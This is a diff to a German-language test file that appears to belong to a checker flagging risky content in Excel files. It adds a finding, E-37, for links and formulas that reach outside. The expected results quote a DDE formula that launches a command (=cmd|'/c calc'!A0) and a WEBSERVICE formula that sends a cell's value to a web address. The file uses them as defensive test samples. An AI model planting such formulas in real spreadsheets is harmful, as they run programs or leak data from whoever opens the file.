@@ -133,6 +133,14 @@ E17 = (
     " nur die gespeicherten Werte. Entfernen Sie die Verknüpfungen in Excel unter «Daten», «Verknüpfungen bearbeiten»."
     " (Ziff. 5.2, E-17)",
 )
+_OHNE_WERTE = "Nichts davon wurde aufgerufen; gelesen wurden nur die gespeicherten Werte."
+
+
+def e37(was: str) -> Zeile:
+    rat = "Entfernen Sie, was nach aussen führt; E-Mail-Adressen dürfen bleiben."
+    return "E-37", "", f"Die Datei enthält {was}. {_OHNE_WERTE} {rat} (Ziff. 5.2, E-37)"
+
+
 F02 = (
     "F-02",
     "B2",
@@ -288,7 +296,7 @@ ERWARTET: dict[str, list[Zeile]] = {
     "DDE-Verknüpfung": [E17],
     "Datenverbindung": [E17],
     "Bild von einem Server": [E17],
-    "Hyperlinks und E-Mail-Adressen": [],
+    "Hyperlinks und E-Mail-Adressen": [e37("Links nach aussen")],
     "Makros und Verknüpfungen": [E16, E17],
     "Falsche Grösse": [],
     "Zelle in der letzten Ecke": [],
@@ -345,8 +353,9 @@ ERWARTET: dict[str, list[Zeile]] = {
     "Text wie eine Formel": [],
     "Text wie ein Befehl": [],
     "Text wie eine alte Formel": [],
-    "Formel mit Befehl": [f27("C59", "Bemerkungen", "ein Bezug auf eine andere Datei (=cmd|'/c calc'!A0)")],
+    "Formel mit Befehl": [E17, f27("C59", "Bemerkungen", "ein Bezug auf eine andere Datei (=cmd|'/c calc'!A0)")],
     "Formel mit Webadresse": [
+        e37("Formeln, die nach aussen führen oder Programme aufrufen"),
         f27("C59", "Bemerkungen", 'ein Bezug auf eine andere Datei (=WEBSERVICE("https://example.ch/?q="&C9))'),
     ],
     "Text mit Markierungen": [],
